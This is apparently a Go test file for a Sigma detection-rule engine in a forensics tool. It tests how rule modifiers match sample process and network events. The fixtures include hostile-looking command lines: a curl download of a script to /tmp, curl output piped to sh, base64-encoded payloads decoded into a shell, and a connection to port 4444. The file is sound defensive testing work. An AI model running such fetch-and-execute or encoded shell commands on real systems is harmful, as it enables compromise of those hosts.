package sigma

import (
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/cordon-forensics/cordon/timeline"
)

// ruleOf loads one hand-written rule: a logsource line and a detection.
func ruleOf(t *testing.T, logsource, detection string) *RuleSet {
	t.Helper()
	text := "title: test rule\nid: 00000000-0000-0000-0000-000000000001\nauthor: Test Author\nlevel: high\nlogsource:\n    " +
		logsource + "\ndetection:\n" + detection + "\n"
	set, err := LoadFS(fstest.MapFS{"rule.yml": {Data: []byte(text)}}, "test")
	if err != nil {
		t.Fatal(err)
	}
	if len(set.Failures) > 0 {
		t.Fatalf("rule not loaded: %s\n%s", set.Failures[0].Reason, text)
	}
	return set
}

// fires reports whether the rule set matches the event.
func fires(set *RuleSet, ev timeline.Event) bool {
	e := NewEngine(set)
	e.Add(&ev)
	return len(e.Findings()) > 0
}

var t0 = time.Date(2026, 11, 2, 10, 0, 0, 0, time.UTC)

// proc is a process start from the snapshot.
func started(exe, cmdline string) timeline.Event {
	return timeline.Event{Timestamp: t0, Message: "process started: " + cmdline,
		Event:   timeline.EventFields{Dataset: "processes", Action: "process-started"},
		Host:    &timeline.Host{Name: "web01"},
		Process: &timeline.Process{PID: 4242, Executable: exe, CommandLine: cmdline, Args: strings.Fields(cmdline)},
		Cordon:  timeline.Cordon{Provenance: timeline.Provenance{Bundle: "ev1", Entry: "proc/processes.jsonl", Line: 7}}}
}

const pcSource = "product: linux\n    category: process_creation"

func TestModifiers(t *testing.T) {
	curl := started("/usr/bin/curl", "curl -fsSL http://203.0.113.7/x.sh -o /tmp/x.sh")
	cases := []struct {
		name      string
		detection string
		ev        timeline.Event
		want      bool
	}{
		{"equals ignores case", "    sel:\n        Image: '/USR/BIN/CURL'\n    condition: sel", curl, true},
		{"equals is whole", "    sel:\n        Image: '/usr/bin/cur'\n    condition: sel", curl, false},
		{"wildcard star", "    sel:\n        Image: '/usr/*/curl'\n    condition: sel", curl, true},
		{"wildcard question mark", "    sel:\n        Image: '/usr/bin/cur?'\n    condition: sel", curl, true},
		{"wildcard anchored", "    sel:\n        Image: 'usr/*/curl'\n    condition: sel", curl, false},
		{"escaped star is a star", "    sel:\n        CommandLine|contains: 'x\\*'\n    condition: sel", started("/bin/ls", "ls x*"), true},
		{"escaped star not a wildcard", "    sel:\n        CommandLine|contains: 'x\\*'\n    condition: sel", started("/bin/ls", "ls xyz"), false},
		{"contains", "    sel:\n        CommandLine|contains: '203.0.113.7'\n    condition: sel", curl, true},
		{"contains with wildcard", "    sel:\n        CommandLine|contains: 'http://*.sh'\n    condition: sel", curl, true},
		{"contains misses", "    sel:\n        CommandLine|contains: 'wget'\n    condition: sel", curl, false},
		{"startswith", "    sel:\n        CommandLine|startswith: 'CURL -f'\n    condition: sel", curl, true},
		{"startswith misses", "    sel:\n        CommandLine|startswith: '-fsSL'\n    condition: sel", curl, false},
		{"endswith", "    sel:\n        Image|endswith: '/curl'\n    condition: sel", curl, true},
		{"endswith misses", "    sel:\n        Image|endswith: '/wget'\n    condition: sel", curl, false},
		{"list is any", "    sel:\n        Image|endswith:\n            - '/wget'\n            - '/curl'\n    condition: sel", curl, true},
		{"contains all: every value", "    sel:\n        CommandLine|contains|all:\n            - '-fsSL'\n            - '/tmp/'\n    condition: sel", curl, true},
		{"contains all: one missing", "    sel:\n        CommandLine|contains|all:\n            - '-fsSL'\n            - '/dev/shm/'\n    condition: sel", curl, false},
		{"re searches", "    sel:\n        CommandLine|re: 'http://[0-9.]+/'\n    condition: sel", curl, true},
		{"re is case-sensitive", "    sel:\n        CommandLine|re: 'CURL'\n    condition: sel", curl, false},
		{"re|i", "    sel:\n        CommandLine|re|i: 'CURL'\n    condition: sel", curl, true},
		{"re anchors itself", "    sel:\n        CommandLine|re: '^-fsSL'\n    condition: sel", curl, false},
		{"base64offset|contains, offset 0", "    sel:\n        CommandLine|base64offset|contains: 'http://'\n    condition: sel", started("/bin/sh", "sh -c echo aHR0cDovL2V2aWwK | base64 -d"), true},
		{"base64offset|contains, offset 1", "    sel:\n        CommandLine|base64offset|contains: 'http://'\n    condition: sel", started("/bin/sh", "sh -c echo IGh0dHA6Ly9ldmlsCg== | base64 -d"), true},
		{"base64offset|contains, offset 2", "    sel:\n        CommandLine|base64offset|contains: 'http://'\n    condition: sel", started("/bin/sh", "sh -c echo ICBodHRwOi8vZXZpbAo= | base64 -d"), true},
		{"base64offset|contains misses", "    sel:\n        CommandLine|base64offset|contains: 'http://'\n    condition: sel", started("/bin/sh", "sh -c echo ZnRwOi8vZXZpbAo= | base64 -d"), false},
		{"base64|contains", "    sel:\n        CommandLine|base64|contains: 'whoami'\n    condition: sel", started("/bin/sh", "echo d2hvYW1p | base64 -d | sh"), true},
		{"cidr v4", "    sel:\n        DestinationIp|cidr: '203.0.113.0/24'\n    condition: sel", conn("203.0.113.7", 4444), true},
		{"cidr v4 misses", "    sel:\n        DestinationIp|cidr: '10.0.0.0/8'\n    condition: sel", conn("203.0.113.7", 4444), false},
		{"cidr v6", "    sel:\n        DestinationIp|cidr: 'fc00::/7'\n    condition: sel", conn("fd12::1", 4444), true},
		{"number", "    sel:\n        DestinationPort: 4444\n    condition: sel", conn("203.0.113.7", 4444), true},
		{"gte", "    sel:\n        DestinationPort|gte: 4000\n    condition: sel", conn("203.0.113.7", 4444), true},
		{"lt", "    sel:\n        DestinationPort|lt: 4000\n    condition: sel", conn("203.0.113.7", 4444), false},
		{"windash: dash", "    sel:\n        CommandLine|windash|contains: ' -exec '\n    condition: sel", started("/usr/bin/find", "find . -exec rm {} ;"), true},
		{"windash: slash", "    sel:\n        CommandLine|windash|contains: ' -exec '\n    condition: sel", started("/usr/bin/find", "find . /exec rm {} ;"), true},
		{"windash: en dash", "    sel:\n        CommandLine|windash|contains: ' -exec '\n    condition: sel", started("/usr/bin/find", "find . –exec rm {} ;"), true},
		{"windash: not a flag", "    sel:\n        CommandLine|windash|contains: ' -exec '\n    condition: sel", started("/usr/bin/find", "find . +exec rm {} ;"), false},
		{"exists: true", "    sel:\n        CurrentDirectory|exists: true\n    condition: sel", curl, false},
		{"exists: false", "    sel:\n        CurrentDirectory|exists: false\n    condition: sel", curl, true},
		{"null: absent", "    sel:\n        CurrentDirectory: null\n    condition: sel", curl, true},
		{"null: present", "    sel:\n        Image: null\n    condition: sel", curl, false},
		{"fieldref", "    sel:\n        Image|fieldref: ParentImage\n    condition: sel", withParent(curl, "/usr/bin/curl", ""), true},
		{"fieldref differs", "    sel:\n        Image|fieldref: ParentImage\n    condition: sel", withParent(curl, "/usr/bin/bash", ""), false},
		{"cased", "    sel:\n        CommandLine|cased|contains: 'fssl'\n    condition: sel", curl, false},
		{"cased matches", "    sel:\n        CommandLine|cased|contains: 'fsSL'\n    condition: sel", curl, true},
		{"deleted executable", "    sel:\n        Image: '/tmp/mysql'\n    condition: sel", started("/tmp/mysql (deleted)", "mysql"), true},
		{"parent command line", "    sel:\n        ParentCommandLine|contains: 'curl -s'\n    condition: sel", withParent(curl, "/usr/bin/sh", "sh -c curl -s x | sh"), true},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			ls := pcSource
			if c.ev.Event.Dataset == "auditd" {
				ls = "product: linux\n    category: network_connection"
			}
			set := ruleOf(t, ls, c.detection)
			if got := fires(set, c.ev); got != c.want {
				t.Errorf("fires = %v, want %v", got, c.want)
			}
		})
	}
}

// conn is an audited connect() of a process.
func conn(ip string, port int) timeline.Event {
	return timeline.Event{Timestamp: t0, Message: "SYSCALL connect",
		Event:       timeline.EventFields{Dataset: "auditd", Action: "syscall-connect"},
		Host:        &timeline.Host{Name: "web01"},
		Process:     &timeline.Process{PID: 6000, Executable: "/tmp/mysql", Name: "mysql"},
		Destination: &timeline.Endpoint{IP: ip, Port: port},
		Labels:      map[string]string{"audit.record_types": "SYSCALL,SOCKADDR,PROCTITLE"}}
}

func withParent(ev timeline.Event, exe, cmd string) timeline.Event {
	p := *ev.Process
	p.Parent = &timeline.ParentProcess{PID: 1, Executable: exe, CommandLine: cmd}
	ev.Process = &p
	return ev
}

func TestModifierErrors(t *testing.T) {
	cases := []struct{ detection, want string }{
		{"    sel:\n        Image|nosuch: x\n    condition: sel", "unknown modifier"},
		{"    sel:\n        Image|expand: '%x%'\n    condition: sel", "placeholders"},
		{"    sel:\n        CommandLine|re: '(?<=a)b'\n    condition: sel", "re"},
		{"    sel:\n        DestinationIp|cidr: 'not a net'\n    condition: sel", "cidr"},
		{"    sel:\n        CommandLine|base64offset|contains: 'a*b'\n    condition: sel", "wildcards"},
		{"    sel:\n        Image: x\n    condition: sel | count() > 5", "aggregation"},
		{"    sel:\n        Image: x\n    condition: nosuch", "not a search"},
		{"    sel:\n        Image: x\n    condition: 1 of filter_*", "names no search"},
	}
	for _, c := range cases {
		text := "title: bad\nlogsource:\n    product: linux\n    category: process_creation\ndetection:\n" + c.detection + "\n"
		set, err := LoadFS(fstest.MapFS{"bad.yml": {Data: []byte(text)}}, "test")
		if err != nil {
			t.Fatal(err)
		}
		if len(set.Failures) != 1 || !strings.Contains(set.Failures[0].Reason, c.want) {
			t.Errorf("%q: failures %+v, want one saying %q", c.detection, set.Failures, c.want)
		}
	}
}

func TestBase64Offsets(t *testing.T) {
	// The three forms of "http://" in a base64 stream (the Sigma
	// specification's own example of base64offset).
	got := base64Offsets([]byte("http://"))
	want := []string{"aHR0cDovL", "h0dHA6Ly", "odHRwOi8v"}
	if strings.Join(got, " ") != strings.Join(want, " ") {
		t.Errorf("base64offset(http://) = %q, want %q", got, want)
	}
}

func TestWindash(t *testing.T) {
	got, err := windash("-a /b c-d")
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 25 || got[0] != "-a -b c-d" || got[1] != "-a /b c-d" || got[5] != "/a -b c-d" {
		t.Errorf("windash: %d variants %q", len(got), got[:6])
	}
	if _, err := windash("-a -b -c -d -e -f"); err == nil {
		t.Error("six flags: want an error (5^6 variants)")
	}
}
